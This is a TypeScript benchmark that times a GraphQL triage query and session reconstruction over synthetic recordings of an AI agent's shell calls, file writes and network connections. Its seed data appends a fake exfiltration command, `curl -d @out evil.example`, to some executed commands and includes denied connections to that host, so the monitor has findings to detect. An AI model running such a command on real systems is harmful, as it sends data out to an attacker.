/**
 * How long the triage packet of a session of 2,000 events takes, over HTTP and GraphQL, on the
 * embedded store that holds 20 such sessions; and the service's own CPU for reconstructing one of
 * 100,000, with the ratio to one of a tenth (10 where nothing is quadratic).
 *
 *     node --conditions=telltale-source --import tsx test/bench/query-triage.ts [rounds]
 *
 * Traps: the first request compiles the query and is told apart; CPU time is of the whole process:
 * engine, service and client.
 */
import type { AddressInfo } from 'node:net';
import type { Draft, TelltaleEvent } from '#schemas';
import { assess } from '../../query/timeline/assess.ts';
import { buildStory } from '../../query/timeline/story.ts';
import { buildTriage } from '../../query/timeline/triage.ts';
import { eventsIn, insertEvents, stampStream } from '../query/seed.ts';
import { openTestStore, serve } from '../query/service.ts';

const TARGET_MS = 150;
const SESSIONS = 20;
const EVENTS = 2000;
const ROUNDS = Number(process.argv[2] ?? 60);
const BASE_NS = 1_764_000_000_000_000_000n;

const sessionId = (n: number) => `0193a5e0-0000-7000-8000-${String(n).padStart(12, '0')}`;
const streamId = (n: number) => `0193a5e1-0000-7000-8000-${String(n).padStart(12, '0')}`;

/** The mix of a recorded session; of each twenty calls one drifts, one is refused, one reaches out. */
function draft(i: number): Draft {
  const n = Math.floor(i / 10);
  const call = `call_${n}`;
  const ts = String(BASE_NS + BigInt(i) * 1_000_000n);
  const seen = { ts, source: 'seccomp', assurance: 'observed', pid: 100 + n, ppid: 10 };
  const said = { ts, source: 'otlp', assurance: 'reported', turn_id: `turn_${Math.floor(n / 20)}` };
  const key = { tool_call_id: call, attribution: 'env_key', attribution_confidence_pct: 100 };
  const command = `npm test -- --filter package-${n} && git status --short`;
  const ran = n % 20 === 7 ? `${command}; curl -d @out evil.example` : command;
  const text = `Step ${i}: ${'the tests of the package pass, going on. '.repeat(20)}`;
  const host = n % 20 === 3 ? 'evil.example' : 'registry.example';
  const file = `/srv/app/out/${n}.txt`;
  const kinds: object[] = [
    { kind: 'model.turn', ...said, model: 'scripted-1', text, input_tokens: 900 },
    { kind: 'tool.call', ...said, tool_call_id: call, tool: 'shell', command, arguments: text },
    {
      kind: 'approval',
      ...said,
      tool_call_id: call,
      decision: n % 20 === 11 ? 'denied' : 'approved',
      decided_by: 'user',
      scope: 'once',
      command,
    },
    {
      kind: 'exec',
      ...seen,
      ...key,
      exe: '/usr/bin/bash',
      argv: ['bash', '-lc', ran],
      cwd: '/srv/app',
    },
    { kind: 'file', ...seen, ...key, file_op: 'create', file_path: file },
    { kind: 'file', ...seen, ...key, file_op: 'write', file_path: file },
    {
      kind: 'policy.decision',
      ...said,
      tool_call_id: call,
      policy_type: 'network',
      decision: host === 'evil.example' ? 'deny' : 'allow',
      net_host: host,
      net_port: 443,
    },
    {
      kind: 'net',
      ...seen,
      ...key,
      net_op: 'connect',
      net_host: host,
      net_ip: '192.0.2.1',
      net_port: 443,
    },
    { kind: 'exit', ...seen, ...key, exit_code: 0 },
    {
      kind: 'tool.result',
      ...said,
      tool_call_id: call,
      outcome: 'success',
      exit_code: 0,
      output: text,
    },
  ];
  return kinds[i % kinds.length] as Draft;
}

const PROOF = 'proof { seq digest status checkpoint { seq chainHead signature } }';
const FACT = `{ event { id ts kind source assurance summary } ${PROOF} }`;
const TRIAGE = `query ($id: ID!) { triage(session: $id) {
  session { id agent host user startedAt endedAt }
  command exitCode request ${FACT}
  calls { focus coverage effectCount
    call { id tool command outcome exitCode { code from } exitSignal }
    said ${FACT} approvals ${FACT} decisions ${FACT} results ${FACT} effects ${FACT}
    findings { kind severity text } }
  networkDecisions ${FACT}
  network { host port ips connects failed denied madeThoughDenied callIds }
  findings { finding { kind severity text callId method confidencePct } evidence ${FACT} }
  streams { id completeness { verdict produced stored } integrity { verdict covered faultCount } }
  coverage { verdict sensors { name coverage } losses { reason count } assurance { assurance events } }
  leftOut { what count } } }`;

const quantile = (values: readonly number[], q: number): number =>
  [...values].sort((a, b) => a - b)[Math.floor((values.length - 1) * q)] ?? Number.NaN;

/** The processor's time for reconstructing a session of `count` events, in milliseconds. */
function reconstruct(count: number): number {
  const events = eventsIn(
    stampStream({ drafts: Array.from({ length: count }, (_, i) => draft(i)) }),
  ) as readonly TelltaleEvent[];
  const before = process.cpuUsage();
  const made = assess(events, []);
  const data = { id: '', agent: '', host: '', user: '', events, streams: [], deadLetters: [] };
  buildTriage(data, made, buildStory(data, made));
  const { user, system } = process.cpuUsage(before);
  return (user + system) / 1000;
}

reconstruct(2_000);
const typical = Math.min(...[1, 2, 3].map(() => reconstruct(2_000)));
const [tenth, whole] = [10_000, 100_000].map(reconstruct) as [number, number];
console.log(
  `reconstruction, CPU: 2,000 events ${typical.toFixed(0)} ms, 10,000 ${tenth.toFixed(0)} ms, 100,000 ${whole.toFixed(0)} ms: ${(whole / tenth).toFixed(1)} times`,
);

const { store, close } = await openTestStore();
for (let n = 0; n < SESSIONS; n++) {
  const drafts = Array.from({ length: EVENTS - 2 }, (_, i) => draft(i));
  await insertEvents(store, stampStream({ session: sessionId(n), stream: streamId(n), drafts }));
}
const { app } = await serve(store);
await app.listen({ host: '127.0.0.1', port: 0 });
const url = `http://127.0.0.1:${(app.server.address() as AddressInfo).port}/graphql`;

async function ask(n: number): Promise<{ ms: number; cpuMs: number; bytes: number }> {
  const cpu = process.cpuUsage();
  const began = performance.now();
  const response = await fetch(url, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ query: TRIAGE, variables: { id: sessionId(n) } }),
  });
  const text = await response.text();
  const ms = performance.now() - began;
  if (text.includes('"errors"')) throw new Error(text.slice(0, 500));
  const used = process.cpuUsage(cpu);
  return { ms, cpuMs: (used.user + used.system) / 1000, bytes: text.length };
}

const [first, ...rest] = await (async () => {
  const out = [];
  for (let round = 0; round <= ROUNDS; round++) out.push(await ask(round % SESSIONS));
  return out;
})();
const wall = rest.map(({ ms }) => ms);
const p95 = quantile(wall, 0.95);
console.log(
  `triage: p50 ${quantile(wall, 0.5).toFixed(1)} ms, p95 ${p95.toFixed(1)} ms, worst ${Math.max(...wall).toFixed(1)} ms, CPU ${quantile(
    rest.map(({ cpuMs }) => cpuMs),
    0.5,
  ).toFixed(
    1,
  )} ms, first ${first?.ms.toFixed(1)} ms, ${rest[0]?.bytes} bytes, ${rest.length} rounds`,
);
console.log(`${p95 <= TARGET_MS ? 'PASS' : 'FAIL'}: the p95 is to be at most ${TARGET_MS} ms`);
await app.close();
await close();
process.exitCode = p95 <= TARGET_MS ? 0 : 1;
